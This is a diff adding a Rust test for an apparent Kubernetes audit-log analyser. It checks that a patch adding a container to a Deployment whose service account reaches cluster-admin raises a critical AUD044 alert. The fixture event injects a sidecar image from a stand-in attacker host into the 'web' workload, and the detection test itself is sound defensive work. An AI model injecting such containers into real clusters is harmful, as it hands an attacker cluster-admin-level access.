@@ -645,6 +645,48 @@ fn an_exec_into_a_pod_whose_account_reaches_cluster_admin_is_critical() {
 }
 
 #[test]
+fn a_container_added_to_a_workload_whose_account_reaches_cluster_admin_is_critical() {
+    let dir = scratch("audit-enrich-workload");
+    let log = dir.join("patch.log");
+    let patch = json!({
+        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "auditID": "p1", "level": "Request",
+        "stage": "ResponseComplete", "verb": "patch",
+        "requestURI": "/apis/apps/v1/namespaces/web/deployments/web",
+        "user": {"username": "alice"}, "sourceIPs": ["203.0.113.7"], "userAgent": "kubectl/v1.33",
+        "objectRef": {"resource": "deployments", "apiGroup": "apps", "namespace": "web", "name": "web"},
+        "responseStatus": {"code": 200},
+        "requestReceivedTimestamp": "2026-12-01T10:00:00Z",
+        "requestObject": [{"op": "add", "path": "/spec/template/spec/containers/-",
+                           "value": {"name": "sidecar", "image": "attacker.example/proxy:1"}}],
+    });
+    std::fs::write(&log, patch.to_string() + "\n").unwrap();
+    let analyse = |inventory: Option<&str>| {
+        let mut command = bin();
+        command.args(["audit", "analyze", log.to_str().unwrap(), "-o", "json"]);
+        if let Some(dir) = inventory {
+            command.args(["--inventory", dir]);
+        }
+        let output = command.args(["--fail-on", "none"]).output().unwrap();
+        lines(&output)
+            .into_iter()
+            .find(|a| a["rule"] == "AUD044")
+            .unwrap_or_else(|| panic!("no AUD044 alert: {}", stderr(&output)))
+    };
+    assert_eq!(analyse(None)["severity"], "medium");
+    // examples/rbac: the exposed web Deployment's account is one escalation from cluster-admin;
+    // the added container runs with it.
+    let alert = analyse(Some("examples/rbac"));
+    assert_eq!(alert["severity"], "critical", "{alert:#}");
+    let enrichment = &alert["enrichment"];
+    assert_eq!(enrichment["workload"], "Deployment web/web");
+    assert_eq!(enrichment["service_account"], "web/web");
+    assert_eq!(
+        enrichment["raised_because"],
+        "the workload's service account reaches cluster-admin"
+    );
+}
+
+#[test]
 fn a_rotated_certificate_is_served_without_dropping_requests() {
     let dir = scratch("audit-rotate");
     let rotation = Rotation::new(&dir);
